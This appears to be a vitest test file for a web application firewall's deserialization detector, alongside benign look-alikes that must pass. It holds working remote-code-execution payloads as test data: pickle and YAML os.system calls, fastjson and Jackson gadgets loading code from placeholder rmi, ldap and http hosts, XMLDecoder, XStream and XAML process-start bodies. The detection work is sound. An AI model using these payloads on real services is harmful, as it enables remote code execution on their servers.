// Deserialization payloads, keyed on the structure that makes a parser instantiate a type
// (rce/deserialization.ts): the detector alone with points, and whole requests through the engine.
import { describe, it, expect } from 'vitest';
import { rce } from '../../../../src/waf/detectors/rce.js';
import { WafEngine } from '../../../../src/waf/engine.js';
import type { DetectContext, Point } from '../../../../src/waf/types.js';
import { GET, POST_JSON } from './helpers.js';

const at = (...point: Point): DetectContext => ({ point, kind: 'value', root: 'post' });
const stamp = (v: string, c: DetectContext = GET) => rce.detect(v, c)?.stamp ?? null;
const engine = new WafEngine({ detectors: [rce] });
const post = (contentType: string, body: string): string[] =>
  engine.analyze({ method: 'POST', url: '/', headers: [['Content-Type', contentType]], body: new TextEncoder().encode(body) }).hits.map((h) => h.detector);

describe('rce: deserialization', () => {
  describe('serialized-object headers and type tags', () => {
    it.each([
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
      'aced0005737200116a6176612e7574696c2e48617368536574',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=',
      'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
      'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
      "cos\nsystem\n(S'id'\ntR.",
      'gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
      'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
      '!!python/object/apply:os.system ["id"]',
      '!ruby/object:Gem::Installer\n i: x',
      '--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x/a"}',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
      '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x/a"}]',
      '<object class="java.lang.ProcessBuilder"><void method="start"/></object>',
      '<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>',
    ])('%s', (v) => expect(stamp(v)).toBe('rce:deserialization'));
  });

  describe('a type key, a Jackson array head, a class attribute, a class-named element', () => {
    it.each([
      ['java.lang.AutoCloseable', at(['post'], ['json_doc'], ['hash', '@type'])],
      ['com.mysql.jdbc.JDBC4Connection', at(['post'], ['json_doc'], ['hash', '@type'])],
      ['org.apache.commons.configuration.JNDIConfiguration', at(['post'], ['json_doc'], ['hash', 'user'], ['hash', '@class'])],
      ['System.IO.FileInfo, System.IO.FileSystem', at(['post'], ['json_doc'], ['hash', '$type'])],
      ['org.springframework.context.support.FileSystemXmlApplicationContext', at(['post'], ['json_doc'], ['hash', 'obj'], ['array', 0])],
      ['java.beans.XMLDecoder', at(['post'], ['xml'], ['xml_tag', 'java'], ['xml_attr', 'class'])],
      ['id', at(['post'], ['xml'], ['xml_tag', 'map'], ['xml_tag', 'jdk.nashorn.internal.objects.NativeString'], ['xml_tag', 'flags'])],
      ['clr-namespace:System.Diagnostics;assembly=system', at(['post'], ['xml'], ['xml_tag', 'ResourceDictionary'], ['xml_attr', 'xmlns:Diag'])],
    ])('%s', (v, c) => expect(stamp(v, c)).toBe('rce:deserialization'));
  });

  describe('look-alikes pass', () => {
    it.each([
      ['The Java class java.lang.ProcessBuilder lets you spawn processes.', POST_JSON],
      ['We use fastjson with @type disabled.', POST_JSON],
      ['com.example.orders.OrderCreated', at(['post'], ['json_doc'], ['hash', '@type'])],
      ['MyApp.Models.Dog, MyApp', at(['post'], ['json_doc'], ['hash', '$type'])],
      ['java.util.ArrayList', at(['post'], ['xml'], ['xml_tag', 'list'], ['xml_attr', 'class'])],
      ['com.zaxxer.hikari.HikariDataSource', at(['post'], ['xml'], ['xml_tag', 'beans'], ['xml_tag', 'bean'], ['xml_attr', 'class'])],
      ['btn btn-primary', at(['post'], ['xml'], ['xml_tag', 'div'], ['xml_attr', 'class'])],
      ['java.lang.String', at(['post'], ['json_doc'], ['hash', 'types'], ['array', 0])],
      ['{"type":"com.example.orders.OrderCreated","data":{"id":1}}', GET],
      ['O:-) nice one', GET],
      ['gAAAAABl_token_that_is_not_a_pickle_at_all', GET],
      ['Use !ruby in your Gemfile', GET],
    ])('%s', (v, c) => expect(stamp(v, c)).toBeNull());
  });

  describe('whole requests', () => {
    it('XML bodies: XMLDecoder, XStream, XAML', () => {
      expect(post('application/xml', '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>')).toContain('rce:deserialization');
      expect(post('application/xml', '<?xml version="1.0"?><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>calc</string></void></array><void method="start"/></object></java>')).toContain('rce:deserialization');
      expect(post('application/xml', '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy></sorted-set>')).toContain('rce:deserialization');
      expect(post('application/xml', '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="x" ObjectType="{x:Type Diag:Process}" MethodName="Start"/></ResourceDictionary>')).toContain('rce:deserialization');
    });
    it('JSON bodies: fastjson, Jackson, Json.NET', () => {
      expect(post('application/json', '{"@type":"java.lang.AutoCloseable","@type":"com.mysql.jdbc.JDBC4Connection","hostToConnectTo":"x","portToConnectTo":3306}')).toContain('rce:deserialization');
      expect(post('application/json', '{"id":1,"obj":["org.springframework.context.support.ClassPathXmlApplicationContext","http://x/spel.xml"]}')).toContain('rce:deserialization');
      expect(post('application/json', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}')).toContain('rce:deserialization');
    });
    it('ordinary documents pass', () => {
      expect(post('application/xml', '<?xml version="1.0"?><beans xmlns="http://www.springframework.org/schema/beans"><bean id="ds" class="com.zaxxer.hikari.HikariDataSource"/><bean class="org.springframework.jdbc.core.JdbcTemplate"/></beans>')).toEqual([]);
      expect(post('application/json', '{"@type":"Person","name":"Ada","types":["java.lang.String","int"]}')).toEqual([]);
      expect(post('application/xml', '<list class="java.util.ArrayList"><string>a</string></list>')).toEqual([]);
    });
  });
});
